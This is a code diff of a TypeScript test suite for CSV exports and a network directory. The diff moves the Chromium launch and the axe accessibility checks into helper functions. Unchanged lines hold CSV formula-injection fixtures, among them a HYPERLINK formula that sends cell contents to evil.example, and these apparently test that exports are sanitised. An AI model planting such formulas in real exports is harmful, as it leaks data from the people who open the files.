@@ -10,8 +10,7 @@
  */
 import type { TestWorkflowEnvironment } from '@temporalio/testing';
 import { parse } from 'csv-parse/sync';
-import fs from 'node:fs';
-import { chromium, type Page } from 'playwright-core';
+import type { Page } from 'playwright-core';
 import * as ops from '../../app';
 import { createLifecycleRecords } from '../../store/lifecycle';
 import { recordSubmission } from '../../store/metrics';
@@ -23,6 +22,7 @@ import type { Reply } from '../helpers/http';
 import { applicationFor, exampleSites } from '../helpers/people';
 import { waitFor } from '../helpers/wait';
 import { followRedirect, serveWeb, signInByEmail, webAddress, type ServedWeb } from '../helpers/web';
+import { axeViolations, launchChromium } from '../helpers/browser';
 
 const KEY = 'workspace-test-signing-key-'.padEnd(48, 'w');
 const ADMIN = 'admin@network.example.org';
@@ -32,8 +32,6 @@ const PI = 'pi@formula.example.org';
 const SLUG = 'ws-exports';
 const EVIL_SITE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 const EVIL_PERSON = '=2+5 Mallory';
-const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
-const AXE = fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');
 const BOM = [0xef, 0xbb, 0xbf];
 
 describe('the workspace: CSV exports and the network directory (real stack)', () => {
@@ -429,10 +427,7 @@ describe('the workspace: CSV exports and the network directory (real stack)', ()
   });
 
   it('shows the directory’s pages axe-clean at 1280 and 360 px, with no sideways scroll (headless Chromium)', async () => {
-    const browser = await chromium.launch({
-      executablePath: CHROMIUM,
-      args: ['--no-sandbox', '--headless', '--disable-gpu', '--disable-background-networking'],
-    });
+    const browser = await launchChromium();
     const findings: string[] = [];
     try {
       const context = await browser.newContext();
@@ -441,13 +436,7 @@ describe('the workspace: CSV exports and the network directory (real stack)', ()
       const check = async (p: Page, name: string, within?: string) => {
         for (const width of [1280, 360]) {
           await p.setViewportSize({ width, height: 900 });
-          if (!(await p.evaluate(() => 'axe' in window))) await p.evaluate(AXE);
-          const violations: string[] = await p.evaluate(async () => {
-            const r = await (window as any).axe.run(document, { resultTypes: ['violations'] });
-            return r.violations.map(
-              (v: any) => `${v.id}: ${v.nodes.map((x: any) => x.target.join(' ')).join(', ')}`,
-            );
-          });
+          const violations = await axeViolations(p);
           for (const v of violations) findings.push(`${name} @${width}: ${v}`);
           // The page (or, on a page of others' sections, the section of ours) fits the width.
           const wide = await p.evaluate((sel) => {
